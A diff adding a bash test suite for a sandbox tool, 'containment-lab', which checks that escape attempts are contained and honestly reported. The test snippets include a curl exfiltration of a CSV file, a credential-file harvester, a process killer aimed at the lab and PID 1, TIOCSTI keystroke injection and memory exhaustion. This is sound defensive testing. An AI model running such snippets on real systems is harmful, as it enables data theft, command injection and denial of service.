@@ -1,0 +1,194 @@
+#!/usr/bin/env bash
+# tests/range_test.sh [BINARY] — the range (SPEC section 7) and honest
+# verdicts for snippets a teacher or an attacker would write, as root and
+# as uid 65534: every layer off must still leave the machine as it was, and
+# a verdict must name what really happened.
+set -u
+cd "$(dirname "$0")/.." || exit 1
+source tests/lib.sh
+BIN=$(realpath "${1:-./containment-lab}")
+T=$(mktemp -d /tmp/cl-range.XXXXXX)
+chmod 755 "$T"
+HOMEDIR=""
+trap 'rm -rf "$T"; [[ -n $HOMEDIR ]] && rm -rf "$HOMEDIR"; suite_cleanup' EXIT
+# a staged copy that uid 65534 can reach; its name marks its processes
+LAB=$T/lab-range-$$
+cp "$BIN" "$LAB"
+cp layers.ini snippets/sales.csv "$T/"
+chmod -R a+rX "$T"
+lab() { "$LAB" --config "$T/layers.ini" "$@"; }
+nobody() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }
+field() { $PY -c "import json,sys; d=json.load(sys.stdin); print($1)"; }
+
+snippet() { # NAME THREAT LAYER BODY
+	printf '# lab:title: %s\n# lab:threat: %s\n# lab:layer: %s\n# lab:consequence: test\n%s\n' \
+		"$1" "$2" "$3" "$4" >"$T/$1.py"
+	chmod 644 "$T/$1.py"
+}
+
+before=$(leftovers_snapshot)
+
+# ---- honest resource verdicts: miner, sleeper, printer ----
+snippet miner resource limits 'import hashlib, time
+t = time.time(); x = b"a"
+while time.time() - t < 7:
+    x = hashlib.sha256(x).digest()'
+snippet sleeper resource limits 'import time
+time.sleep(7)'
+snippet printer resource limits 'import sys
+for i in range(200000): sys.stdout.write("x" * 49 + "\n")'
+j=$(lab run "$T/sleeper.py" --off limits --json)
+expect_eq "sleeper, limits off: ESCAPED" "$(field 'd["verdict"]' <<<"$j")" "ESCAPED"
+expect_contains "sleeper, limits off: says the wall time it took" "$(field 'd["headline"]' <<<"$j")" "of wall time (cap 5.0 s)"
+j=$(lab run "$T/sleeper.py" --on all --json)
+expect_eq "sleeper, limits on: CONTAINED by Resource-limits" "$(field 'd["verdict"], d["caught_by"]' <<<"$j")" "CONTAINED limits"
+expect_contains "sleeper, limits on: names the wall clock" "$(field 'd["headline"]' <<<"$j")" "wall clock at 5.0 s"
+j=$(lab run "$T/printer.py" --off limits --json)
+expect_contains "printer, limits off: ESCAPED with the output it took" "$(field 'd["verdict"], d["headline"]' <<<"$j")" "of output (cap 64 KiB)"
+j=$(lab run "$T/printer.py" --on all --json)
+expect_contains "printer, limits on: the output cap, with the figures" "$(field 'd["headline"]' <<<"$j")" "output cap: 64 KiB kept of "
+j=$(lab run "$T/miner.py" --on all --json)
+expect_eq "miner, limits on: CONTAINED" "$(field 'd["verdict"]' <<<"$j")" "CONTAINED"
+expect_contains "miner, limits on: names RLIMIT_CPU or the clock" "$(field 'd["headline"]' <<<"$j")" "Resource-limits: "
+
+# ---- no credit without proof ----
+snippet shell exfil network 'curl -X POST http://127.0.0.1:9/ -d @/work/sales.csv'
+for on in all none; do
+	j=$(lab run "$T/shell.py" --on $on --json)
+	expect_eq "shell commands in a .py (--on $on): BROKE, no layer credited" \
+		"$(field 'd["verdict"], d["caught_by"]' <<<"$j")" "BROKE None"
+done
+expect_contains "BROKE says why and where" "$(field 'd["headline"]' <<<"$j")" "SyntaxError at line 5"
+lab run "$T/shell.py" --on all >/dev/null
+expect_eq "BROKE: run exits 5" "$?" 5
+snippet quiet exfil network 'print("I will not try")'
+j=$(lab run "$T/quiet.py" --off network --json)
+expect_eq "an attack that does nothing with its layer off: BROKE, not CONTAINED" "$(field 'd["verdict"]' <<<"$j")" "BROKE"
+
+# ---- real homes are hidden, whatever the layers ----
+if [[ $(id -u) == 0 ]]; then
+	HOMEDIR=$(mktemp -d /home/cl-range-student.XXXXXX)
+	mkdir -p "$HOMEDIR/.aws"
+	echo "aws_secret_access_key = REALSECRET$$" >"$HOMEDIR/.aws/credentials"
+	chmod -R a+rX "$HOMEDIR"
+	snippet homes secrets env 'import glob
+for p in glob.glob("/home/*/.aws/credentials") + glob.glob("/root/.aws/credentials") + glob.glob("/root/*"):
+    try: print(p, open(p).read())
+    except Exception as e: print(p, e)'
+	for who in root nobody; do
+		if [[ $who == root ]]; then out=$(lab run "$T/homes.py" --on none); else out=$(nobody "$LAB" --config "$T/layers.ini" run "$T/homes.py" --on none); fi
+		expect_not_contains "a real home's secret stays out, every layer off ($who)" "$out" "REALSECRET$$"
+	done
+else
+	skip "a real home's secret stays out" "needs root to plant a home folder"
+fi
+
+# ---- runs cannot see each other; /tmp and /dev/shm are private ----
+snippet peek takeover isolation 'import glob, time, os
+time.sleep(1)
+print("runs seen:", len(glob.glob("/tmp/containment-lab.*")))
+open("/dev/shm/cl-shm-'$$'", "wb").write(b"x" * (8 << 20))
+for p in ("/etc/cl-range-'$$'", "/var/tmp/cl-range-'$$'", "/usr/cl-range-'$$'"):
+    try: open(p, "w").write("x"); print("wrote", p)
+    except OSError as e: print(p, e.strerror)'
+for who in root nobody; do
+	runner=(); [[ $who == nobody ]] && runner=(setpriv --reuid=65534 --regid=65534 --clear-groups)
+	"${runner[@]}" "$LAB" --config "$T/layers.ini" run "$T/peek.py" --on none >"$T/peek1.out" &
+	p1=$!
+	out=$("${runner[@]}" "$LAB" --config "$T/layers.ini" run "$T/peek.py" --on none)
+	wait $p1
+	expect_contains "two concurrent runs, every layer off: each sees only its own folder ($who)" "$out$(cat "$T/peek1.out")" "runs seen: 1"
+	expect_not_contains "... and never the other's ($who)" "$out$(cat "$T/peek1.out")" "runs seen: 2"
+	expect_not_contains "no write outside the decoy host folder ($who)" "$out" "wrote /"
+	check "/dev/shm is private: nothing left on the host ($who)" test ! -e "/dev/shm/cl-shm-$$"
+	check "/etc, /var/tmp, /usr untouched ($who)" test ! -e "/etc/cl-range-$$" -a ! -e "/var/tmp/cl-range-$$" -a ! -e "/usr/cl-range-$$"
+done
+
+# ---- a snippet that attacks the lab itself, every layer off ----
+snippet hunter resource limits 'import os, signal, time
+me = os.getpid()
+for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    try:
+        cmd = open("/proc/%s/cmdline" % pid, "rb").read()
+    except OSError:
+        continue
+    # PID 1 is the init of the run, a fork of the lab: tried below
+    if b"lab-range-" in cmd and int(pid) not in (me, 1):
+        for sig in (signal.SIGSTOP, signal.SIGKILL):
+            try: os.kill(int(pid), sig); print("signalled", pid)
+            except OSError as e: print(pid, e.strerror)
+for sig in (signal.SIGSTOP, signal.SIGKILL):
+    try: os.kill(1, sig)
+    except OSError as e: print("pid 1", e.strerror)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sleep", ["sleep", "41.5"])
+    os._exit(0)
+print("survivor planted")'
+for who in root nobody; do
+	runner=(); [[ $who == nobody ]] && runner=(setpriv --reuid=65534 --regid=65534 --clear-groups)
+	start=$(date +%s)
+	out=$(timeout 20 "${runner[@]}" "$LAB" --config "$T/layers.ini" run "$T/hunter.py" --on none); rc=$?
+	expect_contains "a snippet hunting the lab, every layer off: the lab still gives a verdict ($who)" "$out" "survivor planted"
+	check "... it took less than 10 s ($who)" test $(($(date +%s) - start)) -lt 10
+	expect_not_contains "... and reached no lab process ($who)" "$out" "signalled"
+	check "... and its double-forked survivor is gone ($who)" sh -c '! pgrep -f "^sleep 41[.]5" >/dev/null'
+	[[ $rc -le 5 ]] && ok "... exit status is a verdict's ($who: $rc)" || not_ok "... exit status is a verdict's ($who)" "got $rc"
+done
+
+# ---- exec never shares the host ----
+for d in / /tmp /home; do
+	err=$(cd "$d" && "$LAB" --config "$T/layers.ini" exec --off isolation -- /bin/ls 2>&1); rc=$?
+	expect_eq "exec from $d is refused (exit 2)" "$rc" 2
+	expect_contains "exec from $d says why" "$err" "cd into a project folder"
+done
+out=$(cd "$T" && "$LAB" --config "$T/layers.ini" exec --on none -- /bin/ls /root /home 2>&1)
+expect_eq "exec, every layer off: the real homes are empty" "$out" "/home:
+
+/root:"
+
+# ---- no controlling terminal: TIOCSTI cannot type into the user's shell ----
+if command -v script >/dev/null; then
+	cat >"$T/sti.py" <<'EOF'
+import fcntl, termios, os
+for fd in (0, 1):
+    try:
+        for ch in b"touch " + os.environ.get("INJ", "/nonexistent").encode() + b"\n":
+            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
+        print("typed into fd", fd)
+    except OSError as e:
+        print("TIOCSTI on fd", fd, e.strerror)
+EOF
+	chmod 644 "$T/sti.py"
+	inj=$T/injected
+	out=$(cd "$T" && INJ=$inj timeout 20 script -qec "$LAB --config $T/layers.ini exec --on none -- $PY $T/sti.py; read -t 2 line && eval \"\$line\"" /dev/null 2>&1)
+	expect_not_contains "exec, every layer off: TIOCSTI refused" "$out" "typed into"
+	check "... and nothing was typed into the caller's shell" test ! -e "$inj"
+else
+	skip "TIOCSTI refused" "script(1) is not installed (apt-get install bsdutils)"
+fi
+
+# ---- rootless memory: the run's total, not per process ----
+snippet memkids resource limits 'import os, time
+kids = []
+for i in range(12):
+    p = os.fork()
+    if p == 0:
+        b = bytearray(100 << 20)
+        for j in range(0, len(b), 4096): b[j] = 1
+        time.sleep(1.5); os._exit(0)
+    kids.append(p)
+for p in kids: os.waitpid(p, 0)
+print("held")'
+j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/memkids.py" --on all --json)
+expect_eq "rootless, 12 x 100 MiB children, limits on: never CONTAINED past the cap" \
+	"$(field '"over" if d["measured"]["peak_mem_bytes"] > 256<<20 and d["verdict"] == "CONTAINED" else "honest"' <<<"$j")" "honest"
+expect_contains "... the lab's run-wide memory cap ended it" "$(field '" ".join(d["evidence"])' <<<"$j")" "run-wide memory cap"
+expect_contains "... and it says the total was sampled" "$(field '" ".join(d["evidence"])' <<<"$j")" "the run's total, sampled by the lab"
+j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/memkids.py" --off limits --json)
+expect_eq "rootless, limits off: ESCAPED" "$(field 'd["verdict"]' <<<"$j")" "ESCAPED"
+
+after=$(leftovers_snapshot)
+expect_eq "nothing left behind (temp folders, cgroups, processes, mounts)" "$after" "$before"
+finish
